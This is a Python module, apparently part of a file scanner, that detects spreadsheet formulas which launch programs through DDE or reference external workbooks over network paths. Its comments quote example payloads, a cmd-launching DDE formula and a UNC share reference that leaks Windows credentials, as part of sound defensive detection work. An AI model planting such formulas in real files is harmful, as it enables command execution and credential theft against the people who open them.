"""Spreadsheet formulas that start a program through DDE, or refer to another workbook, as
Excel reads them.

``=cmd|' /C calc'!A0`` is application|topic!item: Excel asks the application (here cmd) to run
the topic. ``='\\\\host\\share\\[Book.xlsx]Sheet1'!A1`` makes Excel open that workbook to
compute the cell: from a share, Windows sends it the reader's credentials. Shared by the text
engine (CSV cells) and the Office engine (workbook formulas).
"""

from __future__ import annotations

import re

MAX_FORMULA = 8192  # Excel's limit on a formula's length: a longer cell is never run
# A DDE command is application|topic!item, the topic quoted or one word: =cmd|' /C calc'!A0.
# The application name follows an operator (or the formula character itself), never a space
# alone, so "- item 2 missing | see photo!" is not one.
PIPE = r"[A-Za-z][\w.]*\|(?:'[^'\n]{0,500}'|\"[^\"\n]{0,500}\"|[^\s'\"!|]{1,500})!"
DDE_PIPE = re.compile(r"[=+\-*/&^@(,;]\s*" + PIPE)
DDE_CALL = re.compile(r"\bDDE(?:AUTO)?\(", re.IGNORECASE)


def runs_command(formula: str) -> bool:
    """Whether a spreadsheet formula (as stored in a workbook, without its ``=``) starts a
    program through DDE, like ``cmd|' /C calc'!A0``."""
    value = "=" + formula.lstrip()[:MAX_FORMULA]
    return bool(DDE_PIPE.search(value) or DDE_CALL.search(value))


# Another workbook, named in a formula: [Book.xlsx]Sheet1!A1, '\\host\s\[Book.xlsx]Sheet 1'!A1
# (a sheet name is at most 31 characters), or by its path alone before a name it defines
# ('\\host\s\Book.xlsx'!Total). A workbook's own links are stored as [1]Sheet1!A1, the index
# of an externalLink part (whose target the package's relationships give).
_REFERENCE = r"'?!(?=\$?[A-Za-z_])"  # the "!" before a cell or a name: "done!" ends no sheet
_OTHER_BOOK = re.compile(r"\[(?!\d+\])[^\[\]\n]{1,218}\][^\[\]!\n]{0,31}" + _REFERENCE)
_PATH = re.compile(r"(?:\\\\|//|\bfile:|\bhttps?:)[^!\n]{1,260}" + _REFERENCE, re.IGNORECASE)
_STRING = re.compile(r'"(?:[^"]|"")*"?')  # a text constant: ="\\host\x!" is only text


def other_workbook(formula: str) -> str | None:
    """How a formula (without its ``=``) refers to another workbook: "a network path" (a share,
    a URL), "a workbook" (by name or local path), or None when it does not."""
    text = _STRING.sub(" ", formula[:MAX_FORMULA])
    if _PATH.search(text):
        return "a network path"
    return "a workbook" if _OTHER_BOOK.search(text) else None
